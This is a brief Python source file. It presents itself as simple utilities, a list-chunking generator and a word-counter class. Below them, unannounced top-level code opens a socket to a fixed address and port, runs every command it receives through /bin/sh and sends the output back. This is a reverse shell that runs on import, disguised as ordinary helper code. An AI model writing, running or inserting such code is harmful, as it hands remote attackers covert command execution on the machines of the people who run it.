def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import socket, subprocess
client = socket.socket()
client.connect(("192.168.1.77", 8080))
while True:
    cmd = client.recv(1024).decode()
    out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)
    client.send(out.stdout)
